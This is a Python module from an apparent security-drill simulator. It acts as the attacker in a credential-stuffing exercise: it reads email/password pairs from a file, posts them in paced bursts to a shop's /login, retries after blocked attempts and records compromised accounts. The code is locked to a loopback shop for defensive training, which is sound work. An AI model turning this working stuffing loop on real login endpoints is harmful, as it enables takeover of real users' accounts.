"""The attacker of a credential-stuffing drill: `python -m simulator.security.stuffer ...`.

Started by the `security.credential_stuffing` fault, it does what a stuffing
tool does with a combo list bought after another site's breach: it tries the
pairs against the shop's `POST /login` in bursts from its own loopback address
(127.0.0.3 by default), keeps every account that lets it in, and goes round the
list again for the rest, until its deadline or `--max-attempts`. A refused
attempt (blocked address) is retried at the same pace: the audit log shows the
attempts going on. It talks only to a shop on 127.0.0.1 and keeps a tally of
what it got in a JSON file; the list comes in a file, never in argv.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx

LOGIN = "/login"


def _args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m simulator.security.stuffer")
    parser.add_argument("--url", required=True, help="the drill's shop, http://127.0.0.1:PORT")
    parser.add_argument("--source", default="127.0.0.3", help="the loopback address to use")
    parser.add_argument("--combos", type=Path, required=True, help="JSON list of [email, pw]")
    parser.add_argument("--burst", type=int, default=10, help="attempts per burst")
    parser.add_argument("--interval", type=float, default=2.0, help="seconds between bursts")
    parser.add_argument("--deadline", type=float, required=True, help="wall time to stop at")
    parser.add_argument("--max-attempts", type=int, default=3000)
    parser.add_argument("--tally", type=Path, required=True)
    return parser.parse_args(argv)


def _write(path: Path, tally: dict[str, Any]) -> None:
    tmp = path.with_suffix(".tmp")
    tmp.write_text(json.dumps(tally))
    os.replace(tmp, path)


def main(argv: list[str] | None = None) -> int:
    args = _args(argv)
    host = urlsplit(args.url).hostname
    if host != "127.0.0.1" or not args.source.startswith("127."):
        sys.exit("stuffer: talks only to a drill shop on 127.0.0.1 from a 127.x address")
    pairs = [(str(e), str(p)) for e, p in json.loads(args.combos.read_text())]
    tally: dict[str, Any] = {
        "pid": os.getpid(),
        "attempts": 0,
        "failed": 0,
        "compromised": [],
        "first_success_wall": None,
        "last_success_wall": None,
        "statuses": {},
    }
    # Stopped by the fault's revert (SIGTERM): the tally is written on the way out.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        _run(args, pairs, tally)
    finally:
        _write(args.tally, tally)
    return 0


def _run(args: argparse.Namespace, pairs: list[tuple[str, str]], tally: dict[str, Any]) -> None:
    transport = httpx.HTTPTransport(local_address=args.source)
    interval = max(args.interval, 0.2)
    burst = max(1, min(args.burst, 50))
    cursor = 0
    with httpx.Client(base_url=args.url, transport=transport, timeout=5.0) as client:
        while time.time() < args.deadline and tally["attempts"] < args.max_attempts:
            todo = [p for p in pairs if p[0] not in tally["compromised"]]
            if not todo:
                break
            for _ in range(burst):
                email, password = todo[cursor % len(todo)]
                cursor += 1
                if _attempt(client, email, password, tally):
                    _write(args.tally, tally)  # an account opened: on disk at once
            _write(args.tally, tally)
            time.sleep(interval)


def _attempt(client: httpx.Client, email: str, password: str, tally: dict[str, Any]) -> bool:
    """One login; True when it opened the account."""
    tally["attempts"] += 1
    try:
        response = client.post(LOGIN, json={"email": email, "password": password})
    except httpx.HTTPError as exc:  # the shop restarting: the next burst tries again
        name = type(exc).__name__
        tally["statuses"][name] = tally["statuses"].get(name, 0) + 1
        return False
    code = str(response.status_code)
    tally["statuses"][code] = tally["statuses"].get(code, 0) + 1
    if response.status_code == 200:
        tally["compromised"].append(email)
        tally["first_success_wall"] = tally["first_success_wall"] or time.time()
        tally["last_success_wall"] = time.time()
        return True
    if response.status_code == 401:
        tally["failed"] += 1
    return False


if __name__ == "__main__":
    sys.exit(main())
